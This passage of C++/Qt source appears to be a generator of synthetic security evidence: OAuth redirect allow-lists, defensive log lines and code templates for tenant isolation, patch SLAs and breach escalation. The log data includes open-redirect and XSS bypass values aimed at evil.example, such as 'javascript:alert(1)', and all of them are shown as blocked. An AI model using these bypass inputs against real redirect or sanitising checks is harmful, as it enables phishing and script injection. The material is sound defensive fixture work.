        return {QString::fromUtf16(chosen->file), QString::fromUtf16(chosen->mediaType), fill(QString::fromUtf16(chosen->body), c).toUtf8()};

    // Trusted redirects: the allow-list is data, so it is generated as JSON.
    auto uris = [&](const QStringList &hosts, const QStringList &paths) {
        QJsonArray a;
        for (const QString &h : hosts)
            for (const QString &p : paths)
                a.append(QString(u"https://"_s + h + p));
        return a;
    };
    const QString host = c.slug + u".example.com"_s;
    QJsonArray clients;
    clients.append(QJsonObject{{u"client_id"_s, QString(c.slug + u"-web"_s)},
                               {u"redirect_uris"_s, uris({host, QString(u"admin."_s + host)}, {u"/auth/callback"_s, u"/oauth2/callback"_s})},
                               {u"post_logout_redirect_uris"_s, uris({host}, {u"/"_s, u"/logout/done"_s})},
                               {u"pkce"_s, u"S256"_s}});
    clients.append(QJsonObject{{u"client_id"_s, QString(c.slug + u"-mobile"_s)},
                               {u"redirect_uris"_s, QJsonArray{QString(u"com.example."_s + c.ident + u":/oauth2redirect"_s)}},
                               {u"pkce"_s, u"S256"_s}});
    clients.append(QJsonObject{{u"client_id"_s, QString(c.slug + u"-marketplace"_s)},
                               {u"redirect_uris"_s, uris({host}, {u"/marketplace/install/callback"_s})},
                               {u"pkce"_s, u"S256"_s}});
    const int extra = int(c.variant % 6);
    for (int i = 0; i < extra; ++i) {
        const QString region = c.pick({u"eu", u"us", u"ap", u"ca", u"uk"});
        clients.append(QJsonObject{{u"client_id"_s, QString(c.slug + u"-web-"_s + region + QString::number(i + 1))},
                                   {u"redirect_uris"_s, uris({QString(region + u'.' + host)}, {u"/auth/callback"_s})},
                                   {u"pkce"_s, u"S256"_s}});
    }
    const QJsonObject root{
        {u"version"_s, int(3 + c.variant % 5)},
        {u"description"_s, QString(u"Redirect allow-list for "_s + c.appText + u". Exact string match; no wildcards, no prefixes, https only. Changes need AppSec review."_s)},
        {u"owner"_s, QString(c.partnerText + u" AppSec"_s)},
        {u"updated"_s, c.date().toString(Qt::ISODate)},
        {u"matching"_s, u"exact"_s},
        {u"allow_wildcards"_s, false},
        {u"require_https"_s, true},
        {u"relative_paths"_s, QJsonArray{u"/"_s, u"/dashboard"_s, u"/settings"_s, u"/projects"_s, u"/billing"_s}},
        {u"trusted_hosts"_s, QJsonArray{host, QString(u"admin."_s + host), QString(u"help."_s + host)}},
        {u"clients"_s, clients},
    };
    return {u"oauth-redirect-allowlist.json"_s, u"application/json"_s, QJsonDocument(root).toJson(QJsonDocument::Indented)};
}

// ---------------------------------------------------------------------------
// Logs

struct LogTemplate
{
    char level;
    int weight;
    const char *component;
    const char *text;
};

struct LogSpec
{
    const char16_t *file;
    bool web; // mix in ordinary request lines
    std::initializer_list<LogTemplate> lines;
};

const LogSpec &logSpec(Cat cat)
{
    static const LogSpec specs[CatCount] = {
        {u"tenant-isolation.log", true,
         {{'I', 12, "tenant-guard", "tenant resolved sub={user} tenant={tenant} source=token"},
          {'I', 10, "db", "rls scope set tenant={tenant} conn=pg-{small} tx={hex}"},
          {'W', 3, "tenant-guard", "cross-tenant access denied actor_tenant={tenant} target_tenant={tenant2} path=/api/v2/tenants/{tenant2}/invoices/{n} user={user} status=404"},
          {'E', 1, "db", "query without tenant scope refused caller=reports.Export err=ErrNoTenant"},
          {'I', 2, "support", "jit access granted engineer={user} tenant={tenant} ticket=SUP-{n} ttl=60m approver={user2}"},
          {'W', 1, "cache", "cache key without tenant prefix rejected key=dashboard:{n}"}}},
        {u"patch-window.log", false,
         {{'I', 12, "unattended-upgrades", "upgraded {pkgup} host={host}"},
          {'I', 4, "scanner", "{cve} remediated host={host} package={pkg}"},
          {'I', 3, "kured", "node {host} drained, rebooting for kernel update"},
          {'I', 3, "kured", "node {host} back in service after {ms}s"},
          {'I', 3, "deploy", "rollout deployment/{svc} image=registry.{pslug}.example/{svc}:2026.10.{small} status=complete"},
          {'W', 2, "unattended-upgrades", "package {pkg} kept back on host={host}: dependency conflict"},
          {'W', 1, "scanner", "{cve} open on host={host} package={pkg} sla_days_left={small}"},
          {'E', 1, "deploy", "rollout deployment/{svc} failed readiness probe, rolled back to previous revision"},
          {'D', 4, "unattended-upgrades", "checking {small} upgradable packages on host={host}"}}},
        {u"siem-security-events.log", false,
         {{'I', 20, "siem", "event rule=auth.login_success user={user} ip={ip} country={country}"},
          {'W', 4, "siem", "event rule=auth.impossible_travel user={user} ip={ip} country={country} risk=high"},
          {'W', 3, "edr", "detection host={host} technique=T1059 process=powershell.exe action=blocked"},
          {'I', 2, "pager", "page sent incident=INC-{n} severity=SEV2 responder={user} ack_s={small}"},
          {'E', 1, "ir", "incident INC-{n} declared SEV1 data_class=pii commander={user}"},
          {'I', 2, "ir", "containment action=revoke_sessions user={user} incident=INC-{n}"},
          {'I', 2, "ir", "containment action=rotate_credentials secret=db/{svc} incident=INC-{n}"},
          {'W', 2, "siem", "event rule=exfiltration.large_upload host={host} bytes={big}"},
          {'I', 1, "ir", "notification clock started incident=INC-{n} deadline_h=72 dpo={user2}"}}},
        {u"web-access.log", true,
         {{'W', 4, "csrf", "rejected method=POST path={path} reason=token_mismatch ip={ip} origin=https://{slug}.example.com"},
          {'W', 2, "csrf", "rejected method=POST path={path} reason=cross_site sec_fetch_site=cross-site origin=https://evil.example ip={ip}"},
          {'I', 3, "csrf", "token rotated at login user={user}"},
          {'W', 1, "csrf", "rejected method=DELETE path=/api/v2/users/{n} reason=missing_token ip={ip}"},
          {'I', 2, "webhooks", "signature verified source=stripe event=invoice.paid csrf=exempt"}}},
        {u"csp-reports.log", true,
         {{'W', 6, "csp", "violation directive=script-src-elem blocked=inline document=https://{slug}.example.com{path} disposition=enforce ip={ip}"},
          {'W', 3, "csp", "violation directive=script-src-elem blocked=https://cdn.evil.example/x.js document=https://{slug}.example.com/search disposition=enforce"},
          {'I', 4, "sanitizer", "rich text sanitized field=ticket.comment removed_nodes={small} user={user}"},
          {'W', 1, "sanitizer", "stored payload neutralized field=profile.bio pattern=svg-onload user={user}"},
          {'W', 1, "csp", "violation directive=require-trusted-types-for blocked=trusted-types-sink document=https://{slug}.example.com/editor"}}},
        {u"data-access-audit.log", true,
         {{'I', 10, "kms", "decrypt data_key key=alias/{slug}-customer-data caller=svc-{svc} records={small}"},
          {'I', 8, "audit", "field read field={field} record=cus_{hex} actor=svc-{svc} purpose=billing"},
          {'I', 3, "audit", "field read field={field} record=cus_{hex} actor={user} purpose=support ticket=SUP-{n} grant=jit"},
          {'W', 1, "audit", "export denied actor={user} reason=no_approval rows={big}"},
          {'I', 1, "retention", "deleted customer=cus_{hex} reason=contract_terminated records={n}"},
          {'I', 1, "backup", "snapshot created db={slug}-prod encrypted=true kms=alias/{slug}-customer-data"}}},
        {u"idp-audit.log", false,
         {{'I', 20, "idp", "user.authentication.auth_via_mfa actor={user} factor={factor} result=SUCCESS ip={ip}"},
          {'I', 8, "idp", "user.session.start actor={user} amr=pwd,{amr} ip={ip}"},
          {'W', 3, "idp", "user.authentication.auth_via_mfa actor={user} factor={factor} result=FAILURE reason=INVALID_CREDENTIALS ip={ip}"},
          {'W', 1, "idp", "policy.evaluate_sign_on actor={user} app={slug}-admin outcome=DENY reason=MFA_REQUIRED ip={ip}"},
          {'I', 1, "idp", "user.mfa.factor.activate actor={user} factor=webauthn"},
          {'W', 1, "idp", "user.mfa.factor.deactivate actor=it-admin@{pslug}.example target={user} factor=sms reason=POLICY_NOT_ALLOWED"},
          {'E', 1, "idp", "user.account.lock actor={user} reason=TOO_MANY_MFA_FAILURES ip={ip}"},
          {'I', 3, "idp", "user.authentication.sso actor={user} app={slug}-{svc} result=SUCCESS"}}},
        {u"secrets-audit.log", false,
         {{'I', 15, "secrets", "GetSecretValue secret={slug}/{svc}/db principal=role/{slug}-{svc} result=ok"},
          {'I', 6, "kms", "Decrypt key=alias/{slug}-{svc} principal=role/{slug}-{svc} result=ok"},
          {'I', 1, "rotation", "rotated secret={slug}/{svc}/db version={hex} next_rotation=30d"},
          {'W', 1, "secret-scan", "blocked push repo={slug}-{svc} commit={hex} rule=aws-access-token file=config/local.py"},
          {'I', 3, "secret-scan", "scan passed repo={slug}-{svc} commit={hex} findings=0"},
          {'W', 1, "redaction", "redacted {small} values pattern=email logger={svc}"},
          {'E', 1, "secrets", "GetSecretValue denied secret={slug}/billing/stripe principal=role/{slug}-web reason=AccessDenied"}}},
        {u"api.log", true,
         {{'W', 3, "params", "unpermitted parameters dropped params=role,is_admin controller=Api::V2::UsersController#update user={user}"},
          {'W', 2, "gateway", "schema violation path=/api/v2/invoices additionalProperties=tenant_id status=400 ip={ip}"},
          {'W', 1, "params", "unpermitted parameters dropped params=owner_id controller=Api::V2::ProjectsController#update user={user}"},
          {'I', 5, "params", "permitted params=name,locale controller=Api::V2::UsersController#update user={user}"}}},
        {u"redirect-guard.log", true,
         {{'I', 10, "redirect", "allowed param=next target={localpath} user={user}"},
          {'W', 3, "redirect", "blocked param=next target={evilurl} ip={ip} fallback=/"},
          {'W', 1, "oauth", "authorize rejected client_id={slug}-web reason=redirect_uri_mismatch redirect_uri={evilurl}"},
          {'I', 3, "oauth", "authorize ok client_id={slug}-web redirect_uri=https://{slug}.example.com/auth/callback user={user}"}}},
    };
    return specs[cat];
}

const LogTemplate webLines[] = {
    {'I', 30, "http", "request completed method=GET path={path} status=200 duration_ms={ms} tenant={tenant}"},
    {'I', 10, "http", "request completed method=POST path={path} status=201 duration_ms={ms} tenant={tenant}"},
    {'I', 2, "http", "request completed method=GET path={path} status=404 duration_ms={ms} tenant={tenant}"},
    {'D', 6, "health", "GET /healthz status=200 duration_ms=1"},
    {'I', 3, "jobs", "job finished name=digest-email processed={n} duration_ms={ms}"},
};

class LogWriter
{
public:
    explicit LogWriter(Ctx &c) : m_c(c)
    {
        for (int i = 0; i < 40; ++i) {
            const QString p = c.person();
            m_users.append(c.email(p).toLatin1());
        }
        for (int i = 0; i < 30; ++i)
            m_tenants.append(c.tenant().toLatin1());
        for (int i = 0; i < 12; ++i)
            m_hosts.append(u"ip-10-%1-%2-%3"_s.arg(c.range(0, 3)).arg(c.range(0, 255)).arg(c.range(1, 254)).toLatin1());
        m_slug = c.slug.toLatin1();
        m_pslug = c.pslug.toLatin1();
    }

    void expand(QByteArray &out, const char *tpl)
    {
        Ctx &c = m_c;
        for (const char *p = tpl; *p; ++p) {
            if (*p != '{') {
                out += *p;
                continue;
            }
            const char *end = p + 1;
            while (*end && *end != '}')
                ++end;
            const QByteArrayView key(p + 1, end - p - 1);
            p = end;
            if (key == "user" || key == "user2")
                out += m_users.at(c.below(int(m_users.size())));
            else if (key == "tenant" || key == "tenant2")
                out += m_tenants.at(c.below(int(m_tenants.size())));
            else if (key == "host")
                out += m_hosts.at(c.below(int(m_hosts.size())));
            else if (key == "ip") {
                static const char *nets[] = {"203.0.113.", "198.51.100.", "192.0.2.", "10.20.4."};
                out += nets[c.below(4)];
                out += QByteArray::number(c.range(1, 254));
            } else if (key == "ms")
                out += QByteArray::number(c.chance(90) ? c.range(2, 180) : c.range(180, 2400));
            else if (key == "n")
                out += QByteArray::number(c.range(100, 99999));
            else if (key == "small")
                out += QByteArray::number(c.range(1, 40));
            else if (key == "big")
                out += QByteArray::number(c.range(50000, 900000000));
            else if (key == "hex")
                out += c.hex(12).toLatin1();
            else if (key == "slug")
                out += m_slug;
            else if (key == "pslug")
                out += m_pslug;
            else if (key == "svc")
                out += c.pick(services).toLatin1();
            else if (key == "path")
                out += c.pick({u"/api/v2/invoices", u"/api/v2/projects", u"/dashboard", u"/api/v2/reports/export", u"/settings/billing", u"/api/v2/users/me", u"/search"}).toLatin1();
            else if (key == "cve")
                out += "CVE-202" + QByteArray::number(c.range(3, 6)) + '-' + QByteArray::number(c.range(10000, 49999));
            else if (key == "pkg" || key == "pkgup") {
                static const char *pkgs[][3] = {{"libssl3", "3.0.13-1~deb12u1", "3.0.15-1~deb12u1"}, {"openssh-server", "1:9.2p1-2+deb12u2", "1:9.2p1-2+deb12u3"},
                                                {"linux-image-amd64", "6.1.94-1", "6.1.112-1"}, {"libexpat1", "2.5.0-1", "2.5.0-1+deb12u1"},
                                                {"curl", "7.88.1-10+deb12u5", "7.88.1-10+deb12u7"}, {"libc6", "2.36-9+deb12u4", "2.36-9+deb12u8"},
                                                {"nginx", "1.22.1-9", "1.22.1-9+deb12u1"}, {"python3.11", "3.11.2-6", "3.11.2-6+deb12u3"}};
                const auto &pk = pkgs[c.below(8)];
                out += pk[0];
                if (key == "pkgup") {
                    out += " from=";
                    out += pk[1];
                    out += " to=";
                    out += pk[2];
                }
            } else if (key == "country")
                out += c.pick({u"DE", u"DE", u"DE", u"US", u"NL", u"PL", u"IN", u"BR", u"SG"}).toLatin1();
            else if (key == "factor")
                out += c.pick({u"webauthn", u"webauthn", u"token:software:totp", u"push"}).toLatin1();
            else if (key == "amr")
                out += c.pick({u"hwk", u"hwk", u"otp", u"swk"}).toLatin1();
            else if (key == "field")
                out += c.pick({u"email", u"phone", u"date_of_birth", u"tax_id", u"iban", u"street_address"}).toLatin1();
            else if (key == "localpath")
                out += c.pick({u"/dashboard", u"/settings/billing", u"/projects", u"/"}).toLatin1();
            else if (key == "evilurl")
                out += c.pick({u"https://evil.example/login", u"//evil.example/", u"/\\evil.example", u"javascript:alert(1)"}).toLatin1()
                    + (c.chance(30) ? QByteArray("https://" + m_slug + ".example.com.evil.example/cb") : QByteArray());
        }
    }

    QByteArray write(const LogSpec &spec, int lines)
    {
        QList<const LogTemplate *> pool;
        QList<int> weights;
        int total = 0;
        auto add = [&](const LogTemplate &t) {
            pool.append(&t);
            total += t.weight;
            weights.append(total);
        };
        for (const LogTemplate &t : spec.lines)
            add(t);
        if (spec.web)
            for (const LogTemplate &t : webLines)
                add(t);

        QByteArray out;
        out.reserve(qsizetype(lines) * 150);
        // Start a little after midnight on a variant-dependent day; the pace
        // is a few lines a second, like a busy service.
        QDate day = m_c.date(27);
        qint64 msOfDay = 60'000 + m_c.below(600'000);
        const QByteArray app = m_c.appText.toUtf8();
        for (int i = 0; i < lines; ++i) {
            msOfDay += 1 + m_c.below(i == 0 ? 10 : 900);
            if (msOfDay >= 86'400'000) {
                msOfDay -= 86'400'000;
                day = day.addDays(1);
            }
            char ts[32];
            std::snprintf(ts, sizeof ts, "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ ", day.year(), day.month(), day.day(),
                          int(msOfDay / 3'600'000), int(msOfDay / 60'000 % 60), int(msOfDay / 1000 % 60), int(msOfDay % 1000));
            out += ts;
            if (i == 0) {
                out += "INFO  [main] req=- service starting app=\"" + app + "\" version=2026.10." + QByteArray::number(m_c.variant % 30)
                    + " pid=" + QByteArray::number(1000 + m_c.below(30000)) + '\n';
                continue;
            }
            const int r = m_c.below(total);
            const LogTemplate *t = pool.at(std::lower_bound(weights.begin(), weights.end(), r + 1) - weights.begin());
            switch (t->level) {
            case 'E': out += "ERROR "; break;
            case 'W': out += "WARN  "; break;
            case 'D': out += "DEBUG "; break;
            default: out += "INFO  "; break;
            }
            out += '[';
            out += t->component;
            out += "] req=";
            out += m_c.hex(12).toLatin1();
            out += ' ';
            expand(out, t->text);
            out += '\n';
        }
        return out;
    }

private:
    Ctx &m_c;
    QList<QByteArray> m_users, m_tenants, m_hosts;
    QByteArray m_slug, m_pslug;
};

GeneratedEvidence makeLog(Ctx &c)
{
    const LogSpec &spec = logSpec(c.cat);
    // Mostly 2,000-20,000 lines; every seventh variant is a multi-megabyte
    // log that a viewer must not load into one widget in one go.
    const int lines = c.variant % 7 == 0 ? 52'000 + c.below(8'000) : 2'000 + c.below(18'001);
    LogWriter writer(c);
    return {QString::fromUtf16(spec.file), u"text/plain"_s, writer.write(spec, lines)};
}

Cat categoryFor(const QString &key)
{
    for (int i = 0; i < CatCount; ++i)
        if (categoryKeys[i] == key)
            return Cat(i);
    // Unknown topics still get evidence, from a stable stand-in category.
    const QByteArray digest = QCryptographicHash::hash(key.toUtf8(), QCryptographicHash::Sha256);
    return Cat(quint8(digest.at(0)) % CatCount);
}

} // namespace

GeneratedEvidence EvidenceFactory::make(Kind kind, const QString &categoryKey, const QString &appName,
                                        const QString &partnerName, quint32 variant)
{
    // Everything random comes from one generator seeded by the arguments.
    QCryptographicHash hash(QCryptographicHash::Sha256);
    hash.addData(QByteArrayView("assay-evidence-v1\0", 18));
    for (const QByteArray &part : {QByteArray::number(int(kind)), categoryKey.toUtf8(), appName.toUtf8(), partnerName.toUtf8(),
                                   QByteArray::number(variant)}) {
        hash.addData(part);
        hash.addData(QByteArrayView("\0", 1));
    }
    const QByteArray digest = hash.result();
    quint32 seed[8];
    for (int i = 0; i < 8; ++i)
        seed[i] = qFromLittleEndian<quint32>(digest.constData() + i * 4);

    Ctx c{kind, categoryFor(categoryKey), appName, partnerName, literalSafe(appName), literalSafe(partnerName),
          slugify(appName, u'-'), slugify(partnerName, u'-'), {}, {}, variant, QRandomGenerator(seed, 8)};
    c.ident = c.slug;
    c.ident.replace(u'-', u'_');
    if (c.ident.at(0).isDigit())
        c.ident.prepend(u"app_"_s);
    for (const QString &word : c.slug.split(u'-', Qt::SkipEmptyParts))
        c.className += word.left(1).toUpper() + word.mid(1);
    if (c.className.at(0).isDigit())
        c.className.prepend(u"App"_s);

    GeneratedEvidence e;
    switch (kind) {
    case Kind::HtmlReport:
        e = makeHtml(c);
        break;
    case Kind::Pdf:
        e = makePdf(c);
        break;
    case Kind::Png:
        e = makePng(c);
        break;
    case Kind::SourceCode:
        e = makeCode(c);
        break;
    case Kind::Config:
        e = makeConfig(c);
        break;
    case Kind::Log:
        e = makeLog(c);
        break;
    }
    if (variant % 5 == 4)
        e.filename = hostileFilename(c, e.filename);
    return e;
}


namespace {

// ---------------------------------------------------------------------------
// Template texts. Placeholders: {{APP}}, {{PARTNER}} (literal-safe names),
// {{SLUG}}, {{PSLUG}}, {{IDENT}}, {{CLASS}} (derived identifiers), {{DAY}},
// {{HOUR}}, {{HOURS}}, {{N}}, {{ROT}}, {{TENANT}}, {{REVIEWED}} (vary with the
// variant). In code, {{VECTORS}} is where the regression table goes; its
// entries must agree with the checker function the template names.

std::span<const CodeTemplate> codeTemplates()
{
    static const CodeTemplate templates[] = {
{DataSegregation, Lang::Java, u"TenantIsolationFilter.java", u"mayAccess", uR"~(// {{APP}} - tenant isolation for every request that reaches a repository.
// Owner: {{PARTNER}} platform security.
package com.{{IDENT}}.security.tenancy;

import jakarta.persistence.EntityManager;
import jakarta.servlet.FilterChain;
import jakarta.servlet.ServletException;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.io.IOException;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.hibernate.Session;
import org.springframework.security.core.context.SecurityContextHolder;
import org.springframework.security.oauth2.jwt.Jwt;
import org.springframework.stereotype.Component;
import org.springframework.web.filter.OncePerRequestFilter;

/**
 * Binds the caller's tenant (from the verified JWT, never from a header or the
 * URL) to the Hibernate session, so every query carries "tenant_id = :tenant".
 * Paths that name another tenant are refused before any query runs.
 */
@Component
public class TenantIsolationFilter extends OncePerRequestFilter {
    private static final Pattern TENANT_PATH = Pattern.compile("^/tenants/([a-z0-9_-]+)(/.*)?$");
    private final EntityManager entityManager;

    public TenantIsolationFilter(EntityManager entityManager) {
        this.entityManager = entityManager;
    }

    @Override
    protected void doFilterInternal(HttpServletRequest request, HttpServletResponse response, FilterChain chain)
            throws ServletException, IOException {
        var auth = SecurityContextHolder.getContext().getAuthentication();
        if (auth == null || !(auth.getPrincipal() instanceof Jwt jwt)) {
            response.sendError(HttpServletResponse.SC_UNAUTHORIZED);
            return;
        }
        String tenant = jwt.getClaimAsString("tid");
        if (!mayAccess(tenant + ":" + request.getRequestURI())) {
            // 404 rather than 403: do not confirm that the other tenant exists.
            response.sendError(HttpServletResponse.SC_NOT_FOUND);
            return;
        }
        Session session = entityManager.unwrap(Session.class);
        session.enableFilter("tenantFilter").setParameter("tenantId", tenant);
        try {
            chain.doFilter(request, response);
        } finally {
            session.disableFilter("tenantFilter");
        }
    }

    /** "tenant:path" -> whether a caller of that tenant may touch that path. */
    static boolean mayAccess(String tenantAndPath) {
        int colon = tenantAndPath.indexOf(':');
        if (colon <= 0) {
            return false;
        }
        String tenant = tenantAndPath.substring(0, colon);
        Matcher m = TENANT_PATH.matcher(tenantAndPath.substring(colon + 1));
        return !m.matches() || m.group(1).equals(tenant);
    }

    {{VECTORS}}
}
)~"},
{DataSegregation, Lang::Go, u"tenantdb.go", u"MayAccess", uR"~(// Package tenantdb scopes every database session of {{APP}} to one tenant.
// PostgreSQL row-level security does the filtering; this package makes sure
// the tenant it filters on comes from the verified token, not the request.
// Owner: {{PARTNER}} platform security.
package tenantdb

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"regexp"
	"strings"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"

	"example.com/{{SLUG}}/internal/auth"
)

var tenantPath = regexp.MustCompile(`^/tenants/([a-z0-9_-]+)(/.*)?$`)

type ctxKey struct{}

// ErrNoTenant is returned when a query runs outside a tenant-scoped request.
var ErrNoTenant = errors.New("tenantdb: no tenant in context")

// Middleware refuses requests whose path names another tenant and stores the
// token's tenant in the request context.
func Middleware(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		claims, ok := auth.ClaimsFrom(r.Context())
		if !ok {
			http.Error(w, "unauthorized", http.StatusUnauthorized)
			return
		}
		if !MayAccess(claims.TenantID + ":" + r.URL.Path) {
			http.NotFound(w, r) // do not confirm that the other tenant exists
			return
		}
		next.ServeHTTP(w, r.WithContext(context.WithValue(r.Context(), ctxKey{}, claims.TenantID)))
	})
}

// MayAccess reports whether a caller of a tenant may touch a path ("tenant:path").
func MayAccess(tenantAndPath string) bool {
	tenant, path, ok := strings.Cut(tenantAndPath, ":")
	if !ok || tenant == "" {
		return false
	}
	m := tenantPath.FindStringSubmatch(path)
	return m == nil || m[1] == tenant
}

// WithTenant runs fn in a transaction whose RLS policies see app.tenant_id.
func WithTenant(ctx context.Context, pool *pgxpool.Pool, fn func(pgx.Tx) error) error {
	tenant, ok := ctx.Value(ctxKey{}).(string)
	if !ok || tenant == "" {
		return ErrNoTenant
	}
	return pgx.BeginFunc(ctx, pool, func(tx pgx.Tx) error {
		// set_config(..., true) is transaction-local: a pooled connection never
		// carries one tenant's setting into another tenant's request.
		if _, err := tx.Exec(ctx, "SELECT set_config('app.tenant_id', $1, true)", tenant); err != nil {
			return fmt.Errorf("tenantdb: scope session: %w", err)
		}
		return fn(tx)
	})
}

{{VECTORS}}
)~"},
{SecurityPatches, Lang::Python, u"patch_sla.py", u"is_patched", uR"~("""Patch SLA gate for {{APP}}.

Runs in CI after `pip-audit --format json`; fails the build when a known
vulnerable dependency is older than the SLA in the {{PARTNER}} Patch
Management Procedure allows: critical 7 days, high 14, medium 30, low 90.
"""
from __future__ import annotations

import json
import sys
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

SLA_DAYS = {"critical": 7, "high": 14, "medium": 30, "low": 90}

# Lowest versions that contain the fixes for advisories we track by hand.
MINIMUM_VERSIONS = {
    "django": (4, 2, 16),
    "requests": (2, 32, 0),
    "urllib3": (2, 2, 2),
    "jinja2": (3, 1, 4),
    "cryptography": (43, 0, 1),
    "pillow": (10, 3, 0),
}


@dataclass(frozen=True)
class Finding:
    package: str
    installed: str
    advisory: str
    severity: str
    published: date

    def overdue(self, today: date) -> bool:
        return today - self.published > timedelta(days=SLA_DAYS.get(self.severity, 30))


def parse_version(text: str) -> tuple[int, ...]:
    return tuple(int(part) for part in text.split(".")[:4] if part.isdigit())


def is_patched(spec: str) -> bool:
    """'package@version' -> True when at or above the tracked minimum."""
    name, _, version = spec.partition("@")
    minimum = MINIMUM_VERSIONS.get(name.lower())
    return minimum is None or parse_version(version) >= minimum


def load_findings(path: Path) -> list[Finding]:
    data = json.loads(path.read_text(encoding="utf-8"))
    findings = []
    for dep in data.get("dependencies", []):
        for vuln in dep.get("vulns", []):
            findings.append(Finding(
                package=dep["name"],
                installed=dep["version"],
                advisory=vuln["id"],
                severity=vuln.get("severity", "medium").lower(),
                published=date.fromisoformat(vuln.get("published", "1970-01-01")[:10]),
            ))
    return findings


def main(argv: list[str]) -> int:
    self_check()
    today = date.today()
    overdue = [f for f in load_findings(Path(argv[1])) if f.overdue(today)]
    for f in overdue:
        print(f"OVERDUE {f.severity:<8} {f.package}=={f.installed} {f.advisory}", file=sys.stderr)
    return 1 if overdue else 0


{{VECTORS}}


if __name__ == "__main__":
    sys.exit(main(sys.argv))
)~"},
{SecurityPatches, Lang::Ruby, u"patch_sla.rb", u"patched?", uR"~(# frozen_string_literal: true

# Patch SLA gate for {{APP}} ({{PARTNER}}).
# `bin/rails security:patch_sla` runs in CI after `bundle audit check --update`;
# a vulnerable gem older than its SLA fails the pipeline.
require "bundler/audit/scanner"

module PatchSla
  SLA_DAYS = { "critical" => 7, "high" => 14, "medium" => 30, "low" => 90 }.freeze

  # Lowest versions that contain the fixes for advisories we track by hand.
  MINIMUM_VERSIONS = {
    "rails" => "7.1.3.4",
    "nokogiri" => "1.16.5",
    "rack" => "3.0.11",
    "puma" => "6.4.3",
    "devise" => "4.9.4",
  }.freeze

  def self.patched?(spec)
    name, version = spec.split("@", 2)
    minimum = MINIMUM_VERSIONS[name.to_s.downcase]
    minimum.nil? || Gem::Version.new(version.to_s) >= Gem::Version.new(minimum)
  end

  def self.overdue(today: Date.today)
    Bundler::Audit::Scanner.new.scan.filter_map do |result|
      next unless result.is_a?(Bundler::Audit::Results::UnpatchedGem)

      advisory = result.advisory
      severity = (advisory.criticality || :medium).to_s
      age = (today - (advisory.date || today)).to_i
      next if age <= SLA_DAYS.fetch(severity, 30)

      { gem: result.gem.name, version: result.gem.version.to_s, id: advisory.id, severity: severity, age_days: age }
    end
  end

  {{VECTORS}}
end

namespace :security do
  desc "Fail when a vulnerable gem is past its patch SLA"
  task patch_sla: :environment do
    PatchSla.self_check!
    late = PatchSla.overdue
    late.each { |f| warn "OVERDUE #{f[:severity]} #{f[:gem]} #{f[:version]} #{f[:id]} (#{f[:age_days]}d)" }
    abort "#{late.size} dependency(ies) past patch SLA" unless late.empty?
  end
end
)~"},
{BreachResponse, Lang::Go, u"escalate.go", u"RequiresNotification", uR"~(// Package incident pages responders and starts the breach clock for {{APP}}.
// Owned by {{PARTNER}} Security Operations; implements sections 4 to 6 of the
// Incident Response Plan.
package incident

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"time"
)

// Severity follows the Incident Response Plan.
type Severity int

const (
	SEV1 Severity = iota + 1 // confirmed breach of regulated data
	SEV2                     // active compromise, no confirmed data access
	SEV3                     // contained, single tenant
	SEV4                     // no customer impact
)

// Alert is what the SIEM posts to /hooks/security-alert.
type Alert struct {
	ID        string    `json:"id"`
	Rule      string    `json:"rule"`
	DataClass string    `json:"data_class"`
	Tenant    string    `json:"tenant"`
	SeenAt    time.Time `json:"seen_at"`
}

// regulatedData starts the 72-hour regulator clock (GDPR Art. 33) and the
// customer notice under the DPA when exposed.
var regulatedData = map[string]bool{"pii": true, "payment": true, "health": true, "credentials": true}

// RequiresNotification reports whether "event:data_class" must be notified.
func RequiresNotification(event string) bool {
	_, class, ok := strings.Cut(event, ":")
	return ok && regulatedData[class]
}

// Classify maps an alert to a severity.
func Classify(a Alert) Severity {
	switch {
	case RequiresNotification(a.Rule + ":" + a.DataClass):
		return SEV1
	case strings.HasPrefix(a.Rule, "auth."):
		return SEV2
	case a.Tenant != "":
		return SEV3
	default:
		return SEV4
	}
}

// Pager sends trigger events to the paging service's events API.
type Pager struct {
	Client     *http.Client
	EventsURL  string // from configuration
	RoutingKey string // from the secrets manager, never from the repository
}

// Escalate pages on-call for SEV1/SEV2 and returns the regulator deadline
// (zero when the incident does not start the clock).
func (p Pager) Escalate(ctx context.Context, a Alert) (time.Time, error) {
	sev := Classify(a)
	var deadline time.Time
	if sev == SEV1 {
		deadline = a.SeenAt.Add(72 * time.Hour)
	}
	if sev > SEV2 {
		return deadline, nil
	}
	body, err := json.Marshal(map[string]any{
		"routing_key":  p.RoutingKey,
		"event_action": "trigger",
		"dedup_key":    a.ID,
		"payload": map[string]any{
			"summary":   fmt.Sprintf("SEV%d %s (tenant %s)", sev, a.Rule, a.Tenant),
			"source":    "{{SLUG}}-siem",
			"severity":  "critical",
			"timestamp": a.SeenAt.UTC().Format(time.RFC3339),
		},
	})
	if err != nil {
		return deadline, err
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, p.EventsURL, bytes.NewReader(body))
	if err != nil {
		return deadline, err
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := p.Client.Do(req)
	if err != nil {
		return deadline, fmt.Errorf("incident: page %s: %w", a.ID, err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusAccepted {
		return deadline, fmt.Errorf("incident: page %s: HTTP %d", a.ID, resp.StatusCode)
	}
	return deadline, nil
}

{{VECTORS}}
)~"},
{BreachResponse, Lang::CSharp, u"BreachClock.cs", u"RequiresNotification", uR"~(// {{APP}} - breach notification clock.
// Owner: {{PARTNER}} Security Operations. Implements section 6 of the Incident
// Response Plan: marketplace within 24 hours, regulator and affected customers
// within 72 hours of awareness (GDPR Art. 33 and 34).
using System;
using System.Collections.Generic;
using System.Linq;

namespace {{CLASS}}.Security.Incidents;

public enum DataClass { None, Internal, Pii, Payment, Health, Credentials }

public sealed record Incident(string Id, string Event, DataClass Data, DateTimeOffset DetectedAt, DateTimeOffset? ConfirmedAt);

public sealed record Deadline(string Audience, DateTimeOffset Due);

public static class BreachClock
{
